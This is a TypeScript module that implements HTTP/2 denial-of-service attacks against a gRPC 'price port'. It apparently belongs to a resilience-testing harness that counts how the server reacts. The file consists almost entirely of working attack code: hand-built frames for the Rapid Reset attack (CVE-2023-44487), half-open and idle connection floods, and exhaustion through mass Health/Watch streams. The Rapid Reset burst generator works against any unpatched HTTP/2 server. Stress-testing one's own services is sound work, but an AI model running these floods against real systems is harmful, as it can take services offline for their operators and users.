/**
 * HTTP/2 attacks on the price port (every HTTP/2 connection there goes to the gRPC server):
 *   h2-idle       node:http2 sessions that open no stream (they answer SETTINGS and PING);
 *   h2-half-open  raw sockets that send half the connection preface, or the whole preface and
 *                 no SETTINGS, then nothing;
 *   rapid-reset   raw sockets, `rate` a second: preface, SETTINGS, then `streams` times HEADERS
 *                 (a Health/Watch call) + RST_STREAM(CANCEL), then the connection is closed
 *                 (FIN or destroyed, alternately) (CVE-2023-44487);
 *   watch         `streams` gRPC Health/Watch streams over sessions of WATCH_STREAMS_PER_SESSION,
 *                 each sent an empty HealthCheckRequest and read forever.
 * Frame layout: RFC 9113 §4.1; header block: RFC 7541 literal fields without indexing.
 */
import http2 from 'node:http2';
import type net from 'node:net';
import { every, holdLoops, rawConnection, sleep, type AttackContext } from './attack-common.js';

export const H2_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
export const WATCH_PATH = '/grpc.health.v1.Health/Watch';
export const WATCH_STREAMS_PER_SESSION = 250;
/** Watch streams are opened this many at a time, every 100 ms. */
const WATCH_BATCH = 50;

const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4 } as const;
const END_HEADERS = 0x4;
const CANCEL = 0x8;

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK literal header field without indexing, new name (every string under 127 bytes). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name, 'latin1'), Buffer.from([value.length]), Buffer.from(value, 'latin1')]);
}

/** The bytes of one rapid-reset session: preface, SETTINGS, then HEADERS + RST_STREAM per stream. */
export function rapidResetBurst(authority: string, streams: number): Buffer {
  const block = Buffer.concat([
    literal(':method', 'POST'),
    literal(':scheme', 'http'),
    literal(':path', WATCH_PATH),
    literal(':authority', authority),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ]);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL);
  const parts = [H2_PREFACE, frame(FRAME.SETTINGS, 0, 0)];
  for (let i = 0; i < streams; i++) {
    const id = 2 * i + 1;
    parts.push(frame(FRAME.HEADERS, END_HEADERS, id, block), frame(FRAME.RST_STREAM, 0, id, rst));
  }
  return Buffer.concat(parts);
}

export function rapidReset(ctx: AttackContext, rate: number, streams: number): void {
  if (rate <= 0) return;
  const name = 'rapid-reset';
  const burst = rapidResetBurst(`${ctx.host}:${ctx.pricePort}`, streams);
  let session = 0;
  every(ctx, Math.max(1, Math.floor(1000 / rate)), () => {
    if (!ctx.acquire()) return ctx.tally.add(name, 'skipped_no_socket');
    const n = session++;
    void rawConnection(ctx, name, { port: ctx.pricePort, selfClosing: true }, (s: net.Socket) => {
      ctx.tally.add(name, 'streams_reset', streams);
      s.write(burst, () => {
        if (n % 2 === 0) s.destroy();
        else {
          s.end();
          setTimeout(() => s.destroy(), 250).unref();
        }
      });
    }).finally(() => ctx.release());
  });
}

export function h2HalfOpen(ctx: AttackContext, n: number): void {
  const name = 'h2-half-open';
  holdLoops(ctx, name, n, (i) =>
    rawConnection(ctx, name, { port: ctx.pricePort }, (s) => {
      s.write(i % 2 === 0 ? H2_PREFACE.subarray(0, 16) : H2_PREFACE);
    }),
  );
}

/** A client session; resolves when it closes. Counts connections, goaway, server_closed, errors. */
function session(ctx: AttackContext, name: string, onConnect: (s: http2.ClientHttp2Session) => void): Promise<void> {
  return new Promise((resolve) => {
    const s = http2.connect(`http://${ctx.host}:${ctx.pricePort}`);
    const untrack = ctx.track(s);
    s.once('connect', () => {
      ctx.tally.add(name, 'connections');
      onConnect(s);
    });
    s.on('goaway', () => ctx.tally.add(name, 'goaway'));
    s.on('error', (err: NodeJS.ErrnoException) => ctx.tally.add(name, `error_${err.code ?? 'other'}`));
    s.once('close', () => {
      untrack();
      if (!ctx.stopped) ctx.tally.add(name, 'server_closed');
      resolve();
    });
  });
}

export function h2Idle(ctx: AttackContext, n: number): void {
  holdLoops(ctx, 'h2-idle', n, () => session(ctx, 'h2-idle', () => undefined));
}

/** Open `count` Watch streams on `s`, in batches; tracks how many are open at once. */
async function openWatches(ctx: AttackContext, s: http2.ClientHttp2Session, count: number, open: { now: number }): Promise<void> {
  const name = 'watch';
  const request = Buffer.alloc(5); // gRPC frame: not compressed, length 0 (service "")
  for (let i = 0; i < count && !ctx.stopped && !s.closed && !s.destroyed; i++) {
    if (i > 0 && i % WATCH_BATCH === 0) await sleep(100);
    let stream: http2.ClientHttp2Stream;
    try {
      stream = s.request({ ':method': 'POST', ':path': WATCH_PATH, 'content-type': 'application/grpc', te: 'trailers' });
    } catch (err) {
      ctx.tally.add(name, `error_${(err as NodeJS.ErrnoException).code ?? 'other'}`);
      return;
    }
    ctx.tally.add(name, 'streams');
    open.now += 1;
    ctx.tally.max(name, 'streams_open_max', open.now);
    stream.once('data', () => ctx.tally.add(name, 'streams_answered'));
    stream.on('data', () => undefined);
    stream.on('error', (err: NodeJS.ErrnoException) => ctx.tally.add(name, `stream_error_${err.code ?? 'other'}`));
    stream.once('close', () => {
      open.now -= 1;
      if (!ctx.stopped && !s.destroyed) ctx.tally.add(name, 'streams_ended_by_server');
    });
    stream.end(request);
  }
}

export function watchStreams(ctx: AttackContext, streams: number): void {
  const sessions = Math.ceil(streams / WATCH_STREAMS_PER_SESSION);
  const open = { now: 0 };
  holdLoops(ctx, 'watch', sessions, (i) => {
    const count = Math.min(WATCH_STREAMS_PER_SESSION, streams - i * WATCH_STREAMS_PER_SESSION);
    return session(ctx, 'watch', (s) => void openWatches(ctx, s, count, open));
  });
}
